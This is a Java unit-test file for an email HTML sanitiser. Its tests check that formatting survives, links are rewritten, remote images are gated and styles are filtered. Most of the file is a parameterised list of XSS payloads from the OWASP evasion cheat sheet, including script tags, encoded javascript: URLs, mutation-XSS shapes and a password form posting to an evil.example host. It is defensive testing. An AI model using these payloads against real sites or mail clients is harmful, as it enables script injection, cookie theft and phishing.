package org.koppel.connector.mail;

import static org.assertj.core.api.Assertions.assertThat;
import static org.koppel.connector.mail.SafeHtml.assertSafe;

import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class MailHtmlTest {

    /**
     * Vectors from the OWASP XSS Filter Evasion Cheat Sheet
     * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) and known
     * mutation-XSS shapes (namespace confusion through svg/math, noscript, raw-text elements).
     */
    static Stream<String> xssVectors() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
                "<IMG SRC=\"javascript:alert('XSS');\">",
                "<IMG SRC=JaVaScRiPt:alert('XSS')>",
                "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
                "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
                "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
                "<IMG SRC=# onmouseover=\"alert('xxs')\">",
                "<IMG SRC= onmouseover=\"alert('xxs')\">",
                "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
                "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
                "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
                "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
                "<IMG SRC=\"jav\tascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
                "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
                "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
                "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
                "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
                "<SCRIPT SRC=//xss.rocks/.j>",
                "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
                "<iframe src=http://xss.rocks/scriptlet.html <",
                "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
                "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
                "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
                "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">",
                "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
                "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
                "<svg/onload=alert('XSS')>",
                "<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<BGSOUND SRC=\"javascript:alert('XSS');\">",
                "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
                "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
                "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
                "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
                "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
                "<div style=\"width: expression(alert('XSS'));\">x</div>",
                "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
                "<div style=\"color: red; background: url(http://evil.example/x.png)\">x</div>",
                "<div style=\"color: u\\rl(x); width: e&#x78;pression(alert(1))\">x</div>",
                "<p style=\"color:red;position:fixed;top:0;left:0;width:100%;height:100%\">Sign in again</p>",
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
                "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
                "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
                "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
                "<BASE HREF=\"javascript:alert('XSS');//\">",
                "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
                "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
                "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
                "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>\"></BODY></HTML>",
                "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math href=\"javascript:alert(1)\">click</math>",
                "<form action=\"https://evil.example\"><input name=password><button formaction=\"javascript:alert(1)\">x</button></form>",
                "<video poster=\"javascript:alert(1)\"></video><video><source onerror=\"alert(1)\"></video>",
                "<img srcset=\"x 1x, javascript:alert(1) 2x\" src=\"cid:a\">",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
                "<a href=\"  javascript:alert(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"java\u0000script:alert(1)\">x</a>",
                "<a href=\"http://ok.example\" onclick=\"alert(1)\" style=\"position:absolute\">x</a>",
                "<details open ontoggle=alert(1)>",
                "<object data=\"javascript:alert(1)\">",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<img src=\"data:text/html,<script>alert(1)</script>\">",
                "<isindex action=\"javascript:alert(1)\" type=image>",
                "<textarea><script>alert(1)</script></textarea>",
                "<title><script>alert(1)</script></title>",
                "<xmp><script>alert(1)</script></xmp>",
                "<template><script>alert(1)</script></template>",
                "<select><option><script>alert(1)</script></select>",
                "<p id=\"__proto__\" name=\"getElementById\" class=\"modal fade show\">clobber</p>",
                "<a href=\"https://ok.example\" target=\"_self\" rel=\"opener\">x</a>",
                "<img src=x:alert(alt) onerror=eval(src) alt=0>",
                "\"><script>alert(1)</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
                "<a href=\"https://ok.example\"><img src=\"https://tracker.example/p.gif\" onload=\"alert(1)\"></a>",
                "<table><tr><td background=\"https://evil.example/bg.png\" style=\"background:url(https://evil.example)\">x</td></tr></table>");
    }

    @ParameterizedTest
    @MethodSource("xssVectors")
    void nothingExecutableSurvives(String vector) {
        String withoutImages = MailHtml.sanitise(vector, false);
        String withImages = MailHtml.sanitise(vector, true);

        assertSafe(withoutImages, false);
        assertSafe(withImages, true);
        assertThat(withoutImages + withImages).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("javascript:");
    }

    @Test
    void tablesListsAndFormattingAreKept() {
        String html = "<h2>Offerte</h2><table border=\"1\" cellpadding=\"4\"><thead><tr><th>Post</th></tr></thead>"
                + "<tbody><tr><td colspan=\"2\" align=\"right\">€ 100</td></tr></tbody></table>"
                + "<ol start=\"3\"><li><b>vet</b> <i>schuin</i> <u>onder</u></li></ol><ul><li>een</li></ul>"
                + "<blockquote>geciteerd</blockquote><pre>  vast  </pre><font color=\"#ff0000\" face=\"Arial\">rood</font><hr>";

        assertThat(MailHtml.sanitise(html, false)).isEqualTo(html);
    }

    @Test
    void linksOpenApartAndTellTheTargetNothing() {
        assertThat(MailHtml.sanitise("<a href=\"https://example.com/x?a=1&amp;b=2\" target=\"_self\" rel=\"opener\">x</a>", false))
                .isEqualTo("<a href=\"https://example.com/x?a=1&amp;b=2\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a>");
        assertThat(MailHtml.sanitise("<a href=\"mailto:jan@example.com\">mail</a>", false)).contains("href=\"mailto:jan@example.com\"");
    }

    @Test
    void aRelativeOrScriptLinkLosesItsHrefButKeepsItsText() {
        assertThat(MailHtml.sanitise("<a href=\"javascript:alert(1)\">Klik</a> <a href=\"#top\">top</a>", false))
                .isEqualTo("<a rel=\"noopener noreferrer nofollow\" target=\"_blank\">Klik</a> <a rel=\"noopener noreferrer nofollow\" target=\"_blank\">top</a>");
    }

    @Test
    void aRemoteImageIsReplacedByItsAltTextUnlessRemoteImagesAreAllowed() {
        String html = "<p><img src=\"https://newsletter.example/banner.png\" alt=\"Winter sale\" width=\"600\"></p>";

        assertThat(MailHtml.sanitise(html, false))
                .isEqualTo("<p><span title=\"Image from the internet not loaded\">[image: Winter sale]</span></p>");
        assertThat(MailHtml.sanitise(html, true)).isEqualTo(
                "<p><img src=\"https://newsletter.example/banner.png\" alt=\"Winter sale\" width=\"600\" referrerpolicy=\"no-referrer\"></p>");
    }

    @Test
    void cidAndInlinePngImagesStayAndOtherDataUrlsGo() {
        String png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

        assertThat(MailHtml.sanitise("<img src=\"cid:logo@01D9\">", false)).isEqualTo("<img src=\"cid:logo@01D9\">");
        assertThat(MailHtml.sanitise("<img src=\"" + png + "\">", false)).isEqualTo("<img src=\"" + png + "\">");
        assertThat(MailHtml.sanitise("<img src=\"data:image/svg+xml;base64,PHN2Zz4=\" alt=\"chart\">", true))
                .isEqualTo("<span title=\"Image not shown: it could not be shown safely\">[image: chart]</span>");
    }

    @Test
    void safeStylesStayAndEveryUnsafeDeclarationGoes() {
        assertThat(MailHtml.sanitise("<p style=\"color:#1F3864; font-family: 'Segoe UI', sans-serif;"
                + " background-color: rgb(255, 0, 0); background-image: url(x); position: fixed; width: expression(1)\">x</p>", false))
                .isEqualTo("<p style=\"color: #1F3864; font-family: 'Segoe UI', sans-serif; background-color: rgb(255, 0, 0)\">x</p>");
        assertThat(MailHtml.sanitise("<p style=\"position:fixed\">x</p>", false)).isEqualTo("<p>x</p>");
    }

    @Test
    void scriptStyleAndHeadContentIsDroppedNotShownAsText() {
        assertThat(MailHtml.sanitise("<html><head><title>T</title><style>p{color:red}</style></head>"
                + "<body><script>var x = 1;</script><p>Zichtbaar</p><style>.a{}</style></body></html>", false))
                .isEqualTo("<p>Zichtbaar</p>");
    }

    @Test
    void unknownElementsAreUnwrappedSoTheirTextStays() {
        assertThat(MailHtml.sanitise("<form><label>Naam</label> <o:p>Word</o:p></form>", false)).isEqualTo("Naam Word");
    }

    @Test
    void textFromHtmlPutsBlocksOnLinesMarksListItemsAndKeepsPre() {
        assertThat(MailHtml.text("<div>Hallo<br>Jan</div><p>Alinea   met\n spaties.</p><ol><li>een</li><li>twee</li></ol>"
                + "<table><tr><th>A</th><th>B</th></tr><tr><td>1</td><td>2</td></tr></table><pre>  a\n  b</pre>"))
                .isEqualTo("Hallo\nJan\n\nAlinea met spaties.\n\n- een\n- twee\n\nA\tB\n1\t2\n\n  a\n  b");
    }
}
